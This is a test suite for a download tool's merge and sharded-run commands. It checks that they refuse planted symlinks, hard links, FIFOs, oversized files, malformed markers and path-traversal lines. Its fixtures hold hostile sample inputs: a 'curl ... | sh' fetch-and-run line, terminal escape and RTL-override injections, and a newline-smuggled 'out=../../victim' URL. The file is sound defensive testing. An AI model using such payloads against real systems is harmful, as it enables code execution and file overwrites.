import { execFileSync, spawn } from 'node:child_process';
import { createReadStream } from 'node:fs';
import fs from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BIN, runCli } from '../helpers/cli.js';
import { startServer, type TestServer } from '../helpers/http.js';
import { tmpDir } from '../helpers/tmp.js';

/**
 * dlpool's own files (DIR/.dlpool/shards/K.*, the outputs of `merge`) met as an attacker who can write into DIR
 * leaves them: links, FIFOs, huge or malformed files, lines that are not checksum lines, shards of another list.
 * Every hostile thing is made in the test's own temp folder and points at files the test made.
 */

let server: TestServer;
let template: string;
let list: string;
beforeAll(async () => {
  server = await startServer((_req, res) => res.writeHead(200, { 'content-length': '3' }).end('abc'));
  // One finished sharded run (4 entries, shards 0 and 1) that each test copies and spoils.
  const dir = await tmpDir();
  list = path.join(dir, 'list.txt');
  await fs.writeFile(list, ['a', 'b', 'c', 'd'].map((n) => `${server.url}/${n}\n`).join(''));
  template = path.join(dir, 'out');
  const r = await runCli(['get', list, '-d', template, '--shard-size', '2', '-q']);
  expect(r.code, r.stderr).toBe(0);
});
afterAll(() => server.close());

interface Ended {
  code: number | null;
  signal: NodeJS.Signals | null;
  stdout: string;
  stderr: string;
  /** Still running after the budget: killed (a hang). */
  hung: boolean;
}

/** `dlpool ARGS`, killed if it has not ended after `ms` (a hang must fail the test, not the suite). */
function runWithin(args: string[], ms = 15_000): Promise<Ended> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [BIN, ...args], {
      env: { ...process.env, CI: 'true', NO_COLOR: '1' },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    let hung = false;
    const timer = setTimeout(() => {
      hung = true;
      child.kill('SIGKILL');
    }, ms);
    child.stdout.setEncoding('utf8').on('data', (d: string) => (stdout += d));
    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
    child.on('error', reject);
    child.on('close', (code, signal) => {
      clearTimeout(timer);
      resolve({ code, signal, stdout, stderr, hung });
    });
  });
}

/** A fresh copy of the finished run: [its --dir, its shards folder]. */
async function copy(): Promise<[string, string]> {
  const out = path.join(await tmpDir(), 'out');
  await fs.cp(template, out, { recursive: true });
  return [out, path.join(out, '.dlpool', 'shards')];
}

/** Ended on its own, exit 2, with one line on stderr that names `file` and no stack trace or raw escape. */
function expectRefused(r: Ended, file: RegExp): void {
  expect(r.hung, 'still running: killed').toBe(false);
  expect(r.code, r.stderr).toBe(2);
  expect(r.stderr).toMatch(file);
  expect(r.stderr).not.toMatch(/internal error|\n\s+at /);
  expect(r.stderr).not.toMatch(/[\x1b\x07\x9b]/);
  expect(r.stderr.trimEnd().split('\n')).toHaveLength(1);
}

const HEX = 'e'.repeat(64);

describe('dlpool merge on a hostile DIR', () => {
  it('--manifest and --failed never write through what is planted at their temporary names', async () => {
    const [out] = await copy();
    const dir = path.dirname(out);
    const victim = path.join(dir, 'victim');
    const victim2 = path.join(dir, 'victim2');
    await fs.writeFile(victim, 'mine\n');
    await fs.writeFile(victim2, 'mine too\n');
    const sums = path.join(dir, 'SHA256SUMS');
    const failed = path.join(dir, 'failed.txt');
    await fs.symlink(victim, `${sums}.part`);
    // A hard link: O_NOFOLLOW alone does not stop a write (or truncation) through it.
    await fs.link(victim2, `${failed}.part`);
    const r = await runWithin(['merge', out, '--manifest', sums, '--failed', failed]);
    expect(r.code, r.stderr).toBe(0);
    expect(await fs.readFile(victim, 'utf8')).toBe('mine\n');
    expect(await fs.readFile(victim2, 'utf8')).toBe('mine too\n');
    expect((await fs.readFile(sums, 'utf8')).split('\n').filter(Boolean)).toHaveLength(4);
    expect(await fs.readFile(failed, 'utf8')).toBe('');
    // What was planted is left as it was.
    expect(await fs.readlink(`${sums}.part`)).toBe(victim);
  });

  it('shard files that are links, FIFOs or huge are refused at once, neither followed nor waited on', async () => {
    const cases: [string, (shards: string, dir: string) => Promise<void>][] = [
      [
        '0.sums',
        async (shards, dir) => {
          await fs.writeFile(path.join(dir, 'secret'), `${HEX}  secret-of-the-test\n`);
          await fs.rm(path.join(shards, '0.sums'));
          await fs.symlink(path.join(dir, 'secret'), path.join(shards, '0.sums'));
        },
      ],
      ['0.sums', async (shards) => fifoAt(path.join(shards, '0.sums'))],
      ['1.done', async (shards) => fifoAt(path.join(shards, '1.done'))],
      // 1 GiB, sparse: refused by its size, not read.
      ['0.done', async (shards) => fs.truncate(path.join(shards, '0.done'), 1 << 30)],
    ];
    for (const [file, spoil] of cases) {
      const [out, shards] = await copy();
      await spoil(shards, path.dirname(out));
      const r = await runWithin(['merge', out]);
      expectRefused(r, new RegExp(file.replace('.', '\\.')));
      expect(r.stdout).not.toContain('secret-of-the-test');
    }
  });

  // Device nodes need root to make (mknod); /dev/zero's numbers, in the test's own folder.
  it.runIf(process.getuid?.() === 0)(
    'a device at K.sums (an endless /dev/zero) is refused, not read',
    async () => {
      const [out, shards] = await copy();
      await fs.rm(path.join(shards, '0.sums'));
      execFileSync('mknod', [path.join(shards, '0.sums'), 'c', '1', '5']);
      expectRefused(await runWithin(['merge', out]), /0\.sums' is not a regular file/);
    },
  );

  it('a malformed marker is one line naming it, with no stack trace', async () => {
    const good = JSON.parse(
      await fs.readFile(path.join(template, '.dlpool', 'shards', '0.done'), 'utf8'),
    ) as Record<string, unknown>;
    const bad = [
      '{',
      '[]',
      JSON.stringify({ ...good, of: 1e308 }).replace('1e+308', '1e309'),
      JSON.stringify({ ...good, of: 2.5 }),
      JSON.stringify({ ...good, shard: 1 }),
      JSON.stringify({ ...good, count: -1 }),
      JSON.stringify({ ...good, downloaded: '\u001b]0;owned\u0007' }),
      JSON.stringify({ ...good, entries: 'x' }),
    ];
    for (const text of bad) {
      const [out, shards] = await copy();
      await fs.writeFile(path.join(shards, '0.done'), text);
      const r = await runWithin(['merge', out], 20_000);
      expectRefused(r, /0\.done/);
    }
  });

  it('K.sums lines that are not checksum lines, or whose path leaves DIR, are refused', async () => {
    const bad = [
      'curl https://example.invalid/x | sh\n',
      `${HEX}  ../victim\n`,
      `${HEX}  /abs/victim\n`,
      `${HEX}  a\u001b]0;owned\u0007\n`,
      `SHA256 (a) = ${HEX}\n`,
      // More lines than the marker's files.
      `${HEX}  a\n${HEX}  b\n${HEX}  c\n`,
    ];
    for (const text of bad) {
      const [out, shards] = await copy();
      await fs.writeFile(path.join(shards, '0.sums'), text);
      const r = await runWithin(['merge', out]);
      expectRefused(r, /0\.sums/);
      expect(r.stdout).toBe('');
    }
  });

  it('what K.jsonl says of a failure reaches the terminal escaped, and a URL that would split --failed is refused', async () => {
    /** Shard 0 with its second entry failed, as `result` says. */
    const failSecond = async (shards: string, result: (r: Record<string, unknown>) => object) => {
      const done = JSON.parse(await fs.readFile(path.join(shards, '0.done'), 'utf8')) as object;
      await fs.writeFile(path.join(shards, '0.done'), JSON.stringify({ ...done, downloaded: 1, failed: 1 }));
      const sums = (await fs.readFile(path.join(shards, '0.sums'), 'utf8')).split('\n');
      await fs.writeFile(path.join(shards, '0.sums'), `${sums[0]}\n`);
      const lines = (await fs.readFile(path.join(shards, '0.jsonl'), 'utf8')).split('\n');
      const r = JSON.parse(lines[1]!) as Record<string, unknown>;
      lines[1] = JSON.stringify({ ...r, status: 'failed', ...result(r) });
      await fs.writeFile(path.join(shards, '0.jsonl'), lines.join('\n'));
    };
    const [out, shards] = await copy();
    const message = '404 \u001b]0;owned\u0007 \u202etxt.exe';
    await failSecond(shards, () => ({ error: { code: 'ERR_DL_HTTP_STATUS', message } }));
    const failed = path.join(path.dirname(out), 'failed.txt');
    const r = await runWithin(['merge', out, '--failed', failed]);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toContain('404 \\x1b]0;owned\\x07 \\u202etxt.exe');
    expect(r.stderr).not.toMatch(/[\x1b\x07\u202e]/);
    expect(await fs.readFile(failed, 'utf8')).toBe(`${server.url}/b\n`);
    const [out2, shards2] = await copy();
    await failSecond(shards2, (r) => ({ url: `${String(r['url'])}\n  out=../../victim`, error: null }));
    expectRefused(await runWithin(['merge', out2]), /0\.jsonl' line 2 is not a result \('url'/);
  });

  it('shards of two different lists in one DIR are refused, not merged as one', async () => {
    const [out] = await copy();
    const other = path.join(path.dirname(out), 'other.txt');
    await fs.writeFile(other, ['x', 'y', 'z', 'w'].map((n) => `${server.url}/${n}\n`).join(''));
    // Shard 1 of another list, in the same DIR: 2 of 2 shards, but of two lists.
    const r1 = await runCli(['get', other, '-d', out, '--shard-size', '2', '--shard', '1/2', '-q']);
    expect(r1.code, r1.stderr).toBe(0);
    const r = await runWithin(['merge', out]);
    expectRefused(r, /different lists/);
    expect(r.stdout).toBe('');
  });
});

function fifoAt(p: string): Promise<void> {
  return fs.rm(p, { force: true }).then(() => void execFileSync('mkfifo', [p]));
}

describe('a sharded run on a hostile DIR', () => {
  const run = (out: string) =>
    runWithin(['get', list, '-d', out, '--shard-size', '2', '--retries', '0', '-q']);

  it('a FIFO at .dlpool/shards/K.done (a plain open waits for ever, deaf to signals) ends the run at once with one line', async () => {
    const [out, shards] = await copy();
    await fifoAt(path.join(shards, '0.done'));
    expectRefused(await run(out), /0\.done/);
  });

  it('a .dlpool that is a file, a link, or whose shards folder is a link: one clear line, nothing written', async () => {
    const spoils: [RegExp, (out: string, elsewhere: string) => Promise<void>][] = [
      [/\.dlpool'? is not a directory/, (out) => fs.writeFile(path.join(out, '.dlpool'), 'a download\n')],
      [/\.dlpool'? is a symbolic link/, (out, elsewhere) => fs.symlink(elsewhere, path.join(out, '.dlpool'))],
      [
        /shards'? is a symbolic link/,
        async (out, elsewhere) => {
          await fs.mkdir(path.join(out, '.dlpool'));
          await fs.symlink(elsewhere, path.join(out, '.dlpool', 'shards'));
        },
      ],
    ];
    for (const [message, spoil] of spoils) {
      const dir = await tmpDir();
      const out = path.join(dir, 'out');
      const elsewhere = path.join(dir, 'elsewhere');
      await fs.mkdir(out);
      await fs.mkdir(elsewhere);
      await spoil(out, elsewhere);
      const r = await run(out);
      expectRefused(r, message);
      expect(await fs.readdir(elsewhere)).toEqual([]);
    }
  });

  it('an output directory where .dlpool cannot be made (-d /proc/self, where mkdir -p spins) ends with one line', async () => {
    expectRefused(await run('/proc/self'), /\.dlpool/);
  });

  it('a shard file that cannot be written (a folder in its place) fails the run with one line, and that shard stays unfinished', async () => {
    const dir = await tmpDir();
    const out = path.join(dir, 'out');
    await fs.mkdir(path.join(out, '.dlpool', 'shards', '0.sums'), { recursive: true });
    const r = await run(out);
    expect(r.hung).toBe(false);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toMatch(/cannot write '.*\/\.dlpool\/shards\/0\.sums': EISDIR/);
    expect(r.stderr).not.toMatch(/internal error|\n\s+at /);
    const shards = await fs.readdir(path.join(out, '.dlpool', 'shards'));
    expect(shards.filter((n) => n.endsWith('.done'))).toEqual(['1.done']);
    expect(shards.filter((n) => n.endsWith('.part'))).toEqual([]);
  });

  it('a hard link planted at a shard file temporary name is not written through', async () => {
    const dir = await tmpDir();
    const out = path.join(dir, 'out');
    const shards = path.join(out, '.dlpool', 'shards');
    await fs.mkdir(shards, { recursive: true });
    const victim = path.join(dir, 'victim');
    await fs.writeFile(victim, 'mine\n');
    for (const name of ['0.sums.part', '0.done.part', '0.jsonl.part'])
      await fs.link(victim, path.join(shards, name));
    const r = await run(out);
    expect(r.code, r.stderr).toBe(0);
    expect(await fs.readFile(victim, 'utf8')).toBe('mine\n');
    const merged = await runWithin(['merge', out]);
    expect(merged.code, merged.stderr).toBe(0);
    expect(merged.stdout.split('\n').filter(Boolean)).toHaveLength(4);
  });
});

describe('dlpool get --manifest', () => {
  it('a FIFO nobody reads at the manifest path (a plain open waits for ever) ends the run at once with one line', async () => {
    const dir = await tmpDir();
    const fifo = path.join(dir, 'SUMS');
    execFileSync('mkfifo', [fifo]);
    const r = await runWithin([
      'get',
      `${server.url}/a`,
      '-d',
      path.join(dir, 'out'),
      '--manifest',
      fifo,
      '-q',
    ]);
    expectRefused(r, /cannot write manifest '.*SUMS': .*FIFO/);
  });

  it('a FIFO with a reader (--manifest >(cmd)) gets the manifest, whole', async () => {
    const dir = await tmpDir();
    const fifo = path.join(dir, 'SUMS');
    execFileSync('mkfifo', [fifo]);
    const read = new Promise<string>((resolve, reject) => {
      let text = '';
      createReadStream(fifo, 'utf8')
        .on('data', (d) => (text += String(d)))
        .on('end', () => resolve(text))
        .on('error', reject);
    });
    const r = await runWithin([
      'get',
      `${server.url}/a`,
      '-d',
      path.join(dir, 'out'),
      '--manifest',
      fifo,
      '-q',
    ]);
    expect(r.code, r.stderr).toBe(0);
    expect(await read).toMatch(/^ba7816bf[0-9a-f]{56} {2}a\n$/);
  });
});

describe('dlpool get --manifest in a folder that cannot be made', () => {
  it('ends with one line (mkdir -p of /proc/PID/x spins, deaf to SIGTERM)', async () => {
    const dir = await tmpDir();
    const r = await runWithin([
      'get',
      `${server.url}/a`,
      '-d',
      path.join(dir, 'out'),
      '--manifest',
      '/proc/self/x/SUMS',
      '-q',
    ]);
    expectRefused(r, /cannot create directory '\/proc\/self\/x': No such file or directory/);
  });
});
